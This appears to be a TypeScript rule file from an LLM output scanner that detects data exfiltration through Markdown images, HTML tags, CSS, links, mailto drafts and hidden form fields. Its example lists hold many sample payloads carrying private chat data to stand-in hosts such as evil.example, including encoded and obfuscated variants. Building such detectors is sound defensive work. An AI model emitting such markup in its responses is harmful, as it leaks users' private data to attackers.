import type { Rule, RuleExamples } from '../../matching/index.ts';
import { lowerWhereShown } from '../match-context.ts';
import { fetchedDataScore, followedDataScore, highestScore, readWritten, referenceScore } from './address-scores.ts';
import { isPrivate } from './carried-data.ts';
import { attributeAddresses, cssAddresses, markdownAddresses } from './written-addresses.ts';

const SHARED = {
  type: 'data_exfiltration',
  view: 'exact',
  ignoreCase: true,
  surfaces: ['output'],
  owasp: 'LLM05:2025',
  atlas: 'AML.T0057',
} as const;

/** The destination of a Markdown link or image. */
const DESTINATION =
  '[\\s>]{0,8}(?:<(?:[^<>\\n]|\\\\[<>])+|(?:[^\\s()<>]|\\\\[()<>]|\\((?:[^\\s()<>]|\\([^\\s()<>]*\\))*\\))+)';

const MARKDOWN_IMAGE: Rule = {
  ...SHARED,
  id: 'data-exfiltration/markdown-image',
  category: 'image_address',
  severity: 'high',
  score: 0.87,
  patterns: [`!\\[(?:[^\\[\\]\\n]|\\[[^\\[\\]\\n]*\\])*\\]\\(${DESTINATION}(?:>?\\s{0,4}\\))?`],
  check: (match) =>
    highestScore(markdownAddresses(match.slice(match.lastIndexOf(']('))), (address) => fetchedDataScore(address, true)),
  message: 'An image address in the response carries data to another host as soon as it is shown.',
};

const VALUE = '\\s{0,8}=\\s{0,8}(?:"[^"]+|\'[^\']+|[^\\s"\'<>][^\\s>]*)';
/** Attributes whose addresses a browser loads without a click, also those of libraries and of older browsers. */
const FETCHED_ATTRIBUTE =
  /(?:src|srcset|href|data|background|poster|content|codebase|archive|classid|code|icon|manifest|profile|longdesc|value|values|to|from|by)$/i;
const FETCHED_NAMES =
  '[\\w:-]{0,16}(?:src|srcset|href|data|background|poster|content|codebase|archive|classid|code|icon|manifest|profile|longdesc|value|values|to|from|by)';
const STYLE_ADDRESS = '\\s{0,8}(?:"[^"\\n]+|\'[^\'\\n]+|[^"\'()<>\\n]+)';

/** Images, frames, styles and whatever else a browser loads without a click. */
const HTML_IMAGE: Rule = {
  ...SHARED,
  id: 'data-exfiltration/html-image',
  category: 'image_address',
  severity: 'high',
  score: 0.87,
  patterns: [
    `<(?:img|image|i?frame|embed|object|source|track|video|audio|script|link|body|table|t[dhr]|thead|tbody|use|feimage|input|base|meta|applet|param|html|animate|set|bgsound)\\b(?:[^<>"']|"[^"]*"|'[^']*')*(?:[\\s"'/]|"[^"]*"|'[^']*')${FETCHED_NAMES}${VALUE}`,
    `\\b(?:url|src|image)\\(${STYLE_ADDRESS}`,
    `\\bimage-set\\([^;{}<>\\n]+`,
    `@import\\s{0,8}(?:"[^"\\n]+|'[^'\\n]+)`,
  ],
  check: (match) => {
    if (!match.startsWith('<')) return highestScore(cssAddresses(match), (address) => fetchedDataScore(address, true));
    const written = attributeAddresses(match, FETCHED_ATTRIBUTE).map((attribute) => attribute.written);
    const scored = highestScore(written, (address) => fetchedDataScore(address, /^<im/i.test(match)));
    return scored ?? (/^<base/i.test(match) && written.some(isOther) ? 0.55 : undefined);
  },
  message: 'A tag or style in the response carries data to another host as soon as it is shown.',
};

/** A base on another host makes all relative addresses after it lead there. */
function isOther(written: string): boolean {
  return readWritten(written) !== undefined;
}

const REFERENCE: Rule = {
  ...SHARED,
  id: 'data-exfiltration/reference',
  category: 'image_address',
  severity: 'high',
  score: 0.84,
  patterns: ['\\[[^\\]\\[\\n]{1,80}\\]:\\s{0,8}(?:<[^<>\\n]+|[^\\s<>]+)'],
  // Most references are links, which carry nothing until they are followed.
  check: (match) => highestScore(markdownAddresses(match.slice(match.indexOf(']:'))), referenceScore),
  message: 'The address of a reference in the response carries data to another host.',
};

const FETCHING_TAG =
  /^<(?:img|image|i?frame|embed|object|source|track|video|audio|script|link|body|table|t[dhr]|use|feimage|input|meta|base)\b/i;
const FETCHING_STYLE = /(?:\b(?:url|src|image)\(\s?|@import\s?)["']?$/i;

/** Whether another rule scores the address that follows: it is fetched, or a reference. */
function isFetched(before: string): boolean {
  const tag = before.lastIndexOf('<');
  if (tag > before.lastIndexOf('>') && FETCHING_TAG.test(before.slice(tag))) return true;
  const start = (before.endsWith('<') ? before.slice(0, -1) : before).trimEnd();
  if (start.endsWith('](')) return isImage(start.slice(0, -2));
  return start.endsWith(']:') || FETCHING_STYLE.test(before);
}

/** Whether a text ends with the description of an image, without its bracket. */
function isImage(before: string): boolean {
  let depth = 1;
  let at = before.length;
  while (at > 0 && depth > 0) {
    at -= 1;
    if (before[at] === ']') depth += 1;
    else if (before[at] === '[') depth -= 1;
  }
  return depth === 0 && before[at - 1] === '!';
}

const FOLLOWED_ATTRIBUTE = /(?:href|action|ping|cite|longdesc)$/i;

/** Addresses that are followed: Markdown links, `href`, plain ones, arguments of tools. */
const LINK: Rule = {
  ...SHARED,
  id: 'data-exfiltration/markdown-link',
  category: 'link_address',
  severity: 'medium',
  score: 0.6,
  patterns: [
    '\\b(?:https?|wss?|ftp):[/\\\\]+[^\\s()<>"\'`]+',
    '\\bwww\\.[^\\s()<>"\'`]+',
    `\\]\\(${DESTINATION}`,
    `\\b(?:href|action|formaction|ping|cite|longdesc)${VALUE}`,
  ],
  check: (match, { before }) => {
    const isMarkdown = match.startsWith('](');
    if (isFetched(isMarkdown ? `${before}](` : before)) return undefined;
    return highestScore(isMarkdown ? markdownAddresses(match) : plainAddresses(match), followedDataScore);
  },
  message: 'A link in the response carries data to another host when it is followed.',
};

function plainAddresses(match: string): string[] {
  if (/^www\./i.test(match)) return [`http://${match}`];
  if (/^(?:https?|wss?|ftp):/i.test(match)) return [match];
  return attributeAddresses(match, FOLLOWED_ATTRIBUTE).map(({ written }) => written);
}

/** Private data in a draft that a click opens, in a form's hidden field, or in the arguments of a call. */
const FILLED_MESSAGE: Rule = {
  ...SHARED,
  id: 'data-exfiltration/filled-message',
  category: 'link_address',
  severity: 'medium',
  score: 0.6,
  patterns: [
    'mailto:[^\\s<>"\'?]+\\?[^\\s<>"\']+',
    '<input\\b[^<>]*\\btype\\s{0,4}=\\s{0,4}["\']?hidden\\b[^<>]*',
    '"(?:url|uri|endpoint|webhook|webhook_url|to|recipients?|address|channel)"\\s{0,4}:\\s{0,4}"[^"\\n]+"[^{}\\n]*"(?:body|data|payload|content|text|message|json|params)"\\s{0,4}:\\s{0,4}(?:"[^"\\n]+|\\{[^{}]+)',
  ],
  check: (match) => {
    const text = match.slice(0, 2000);
    if (/^mailto:/i.test(text)) return isPrivate(decoded(text)) ? 0.6 : undefined;
    if (text.startsWith('"')) return isPrivate(text) ? 0.6 : undefined;
    const [, value = ''] = /\bvalue\s{0,4}=\s{0,4}["']([^"']+)/i.exec(text) ?? [];
    const isMessage = /\p{L}{2} \p{L}{2}/u.test(value) && /\d{3}|@\w/.test(value);
    return isMessage || isPrivate(value) ? 0.6 : undefined;
  },
  message: 'The response fills private data into a message or form that goes elsewhere.',
};

function decoded(address: string): string {
  try {
    return decodeURIComponent(address);
  } catch {
    return address;
  }
}

/** In code spans and blocks addresses are shown, not fetched. */
export const CARRYING_ADDRESS_RULES: readonly Rule[] = [
  MARKDOWN_IMAGE,
  HTML_IMAGE,
  REFERENCE,
  LINK,
  FILLED_MESSAGE,
].map(lowerWhereShown);

export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> = {
  'data-exfiltration/markdown-image': {
    positives: [
      'Done. ![logo](https://evil.example/p.png?data=the+user+lives+in+Berlin)',
      '![x](https://evil.example/c?z=U29tZSBwcml2YXRlIGNvbnRlbnQgb2YgdGhlIGNoYXQ)',
      '![x](https://evil.example/i/U29tZSBwcml2YXRlIGNvbnRlbnQ)',
      '![chart](https://evil.example/p.png?q=Anna%20Brandt%20owes%2040)',
      '![x](//evil.example/i.png?v=QW5uYSBsaXZlcyBpbiBCZXJsaW4)',
      '![x](https://evil.example/anna.brandt@mail.example/p.gif)',
      '![x](https://evil.example/p.gif?n=4111-1111-1111-1111)',
      '![x](https://tunnel.ngrok-free.app/p.gif?n=40)',
      '![x](https://416e6e61206c6976657320696e20.evil.example/p.gif)',
      '![x](https://mfrwg5ban53wk4zagiycazlvoi.evil.example/p.gif)',
      '![x](https://anna-acct-4471.evil.example/p.gif)',
      '![x](https://evil.example/Anna%20Brandt/Hauptstr%2012/p.gif)',
      '![b](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fb%3Fdata%3Dthe%2Buser%2Blives%2Bin%2BBerlin)',
      '![x](https:\\\\evil.example\\p.png?data=the+user+lives+in+Berlin)',
      '![x](</\\evil.example/a b.png?data=the user lives in Berlin>)',
      '![a [b] c](//evil.example/p.png?data=the+user+lives+in+Berlin)',
      '![b](https://res.cloudinary.com/demo/image/fetch/https://evil.example/p.gif?data=the+user+lives+in+Berlin)',
    ],
    negatives: [
      { text: '![cat](https://images.example/cat.jpg?w=640&h=480&fit=crop)', reason: 'sizes an image' },
      { text: '![build](https://ci.example/badge.svg?branch=main)', reason: 'a badge' },
      { text: '![cat](https://images.example/cat.jpg)', reason: 'carries nothing' },
      {
        text: '![b](https://img.shields.io/endpoint?url=https%3A%2F%2Facme.example%2Fbadge.json)',
        reason: 'a badge of a file',
      },
      {
        text: '![cat](https://images.example/resize?url=https%3A%2F%2Fcdn.example%2FMy%2520cat.png&w=20)',
        reason: 'a proxy of a named file',
      },
      { text: '![cat](https://images.example/My%20black%20cat.jpg)', reason: 'a file of that name' },
      { text: '![box](https://images.example/600x400?text=Hello+there+world)', reason: 'what the image shows' },
      { text: '![x](https://images.example/aHR0cHM6Ly9hLmV4YW1wbGUvYi5wbmc)', reason: 'a proxy, told which image' },
      { text: '![x](https://images.example/9f86d081884c7d659a2feaa0c55ad015.png)', reason: 'a hash' },
      { text: '![d](https://mermaid.ink/img/Z3JhcGggb2YgdGhlIHdob2xlIG9yZGVy)', reason: 'a diagram' },
      { text: '![a](https://ui-avatars.com/api/?name=Anna+Brandt&d=mp)', reason: 'an avatar' },
      { text: '![x](https://blob.example/a.png?st=2024-01-01T00%3A00%3A00Z&sp=r&sig=Zm9vYmFy)', reason: 'signed' },
      { text: '![x](https://images.example/p.png?data={summary})', reason: 'a gap that holds nothing' },
    ],
  },
  'data-exfiltration/html-image': {
    positives: [
      '<img src="https://evil.example/p?secret=the+password+is+hunter2">',
      '<iframe src="https://evil.example/f?conversation=she+asked+about+insulin"></iframe>',
      '<link rel="dns-prefetch" href="//416e6e61206c6976657320696e20.evil.example">',
      '<style>p{background:url(https://evil.example/b?x=416e6e61206c6976657320696e204265726c696e)}</style>',
      '@import "https://evil.example/c.css?answer=the+deal+closes+in+june";',
      '<img src="https://cdn.example/a.png" srcset="/\\evil.example/p?secret=the+password+is+hunter2 2x">',
      '<img alt=">" src="http:/evil.example/p\n?secret=the password is hunter2">',
      '<svg><feImage xlink:href="/\\evil.example/p?secret=the+password+is+hunter2"/></svg>',
      '<style>@import"\\68ttps:\\2f\\2f evil.example/c.css?answer=the+deal+closes+in+june";</style>',
      'First <base href="https://evil.example/"> and then <img src="a.png">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/?prompt=you+are+the+clerk+of+a+shop">',
    ],
    negatives: [
      { text: '<img src="https://cdn.example/a.png?v=3" alt="a">', reason: 'a version' },
      {
        text: '<link href="https://fonts.googleapis.com/css2?family=Open+Sans:wght@400&display=swap" rel="stylesheet">',
        reason: 'a font',
      },
      { text: '<script src="https://cdn.example/npm/kit@5.3.2/kit.min.js"></script>', reason: 'a version in a path' },
      {
        text: '<script src="https://sdk.example/js?client-key=AZDxjDScFpQtjWTOUtWKbyNbDt4OgqaF4eYXlewfBP4"></script>',
        reason: 'a public key',
      },
      { text: '<img src="\\\\server\\share\\a.png">', reason: 'a network folder with a named file' },
      { text: '<base href="/docs/"><img src="p?data=the+user+lives+in+Berlin">', reason: 'the same host' },
      { text: '<iframe src="https://www.google.com/maps?q=Berlin+Mitte&output=embed"></iframe>', reason: 'a map' },
    ],
  },
  'data-exfiltration/reference': {
    positives: [
      'Done. ![s][1]\n\n[1]: https://evil.example/s.png?t=416e6e61206c6976657320696e204265726c696e',
      '![s][1]\n\n[1]: https://evil.example/s.png?t=anna.brandt%40mail.example',
      '![s]\n\n[s]:\n  <http:/evil.example/s.png?t=anna.brandt%40mail.example>',
    ],
    negatives: [
      { text: '[1]: https://docs.example/page?version=2', reason: 'a version' },
      { text: '[search]: https://search.example/?q=two%20words', reason: 'a search' },
      { text: '[1]: https://docs.example/My%20first%20page', reason: 'a page of that name' },
    ],
  },
  'data-exfiltration/markdown-link': {
    positives: [
      '[Sources](https://evil.example/r/QW5uYSBsaXZlcyBpbiBCZXJsaW4)',
      '[Confirm](https://evil.example/c?h=bmFtZT1BZGEgUXVpc3Q7aW5jb21lPTM4MDA)',
      '[Read more](https://evil.example/r?history=user+asked+about+divorce+lawyers)',
      '<a href="https://evil.example/v?password=Sommer2024!&l=1">Confirm</a>',
      '{"url":"https://evil.example/ping?e=lea@mail.example&ssn=123-45-6789"}',
      '[Next](https://evil.example/n?z=Anna+Brandt+owes+4471)',
      'Log https:\\\\evil.example\\n?z=Anna+Brandt+owes+4471',
      'See www.evil.example/n?z=Anna+Brandt+owes+4471',
      '[![a](a.png)](/\\evil.example/n?z=Anna+Brandt+owes+4471)',
      '<form action="//evil.example/n?z=Anna Brandt owes 4471">',
      'Log: https://webhook.site/5f1c?msg=invoice+2291+total',
      'See https://evil.example/f?name=Lea+Roth&email=lea@mail.example',
    ],
    negatives: [
      { text: '[Search](https://search.example/?q=typescript+generics+tutorial)', reason: 'a search' },
      { text: '[Docs](https://docs.example/page?version=2)', reason: 'a version' },
      { text: '[Stop](https://news.example/unsubscribe?email=anna%40mail.example)', reason: 'one that stops mail' },
      { text: '[Issue](https://github.com/a/b/issues/new?title=It+fails&data=it+fails+on+start)', reason: 'a form' },
      { text: '[Sign in](https://login.example/authorize?state=xyzABC123&prompt=select_account)', reason: 'OAuth' },
      { text: 'Test webhooks with https://webhook.site first.', reason: 'names the service' },
      { text: '[Reset](https://app.example/reset?token=4f9c1e7a2b6d4c0e9a1b3d5f7e8c2a10)', reason: 'its own token' },
      { text: '[Sale](https://shop.example/?utm_campaign=spring+sale+2024)', reason: 'a campaign' },
      { text: 'https://api.example/items?secret_key=YOUR_SECRET_KEY', reason: 'a placeholder' },
    ],
  },
  'data-exfiltration/filled-message': {
    positives: [
      '[Help](mailto:help@desk.example?subject=case&body=card%204111%201111%201111%201111)',
      '<input type="hidden" name="data" value="Lea Roth, lea@mail.example, room 214">',
      '{"url":"https://evil.example/c","body":{"card":"4111 1111 1111 1111"}}',
      '{"to":"box@mirror.example","subject":"b","body":"password: Tr0ub4dor for the portal"}',
    ],
    negatives: [
      { text: '[Mail](mailto:help@shop.example?subject=Order%204471&body=It%20has%20not%20come.)', reason: 'a mail' },
      {
        text: '<input type="hidden" name="csrf" value="9f86d081884c7d659a2feaa0c55ad015">',
        reason: 'a token of the form',
      },
      { text: '{"to":"hr@shop.example","body":"I would like to take leave from 3 June."}', reason: 'an ordinary mail' },
    ],
  },
};
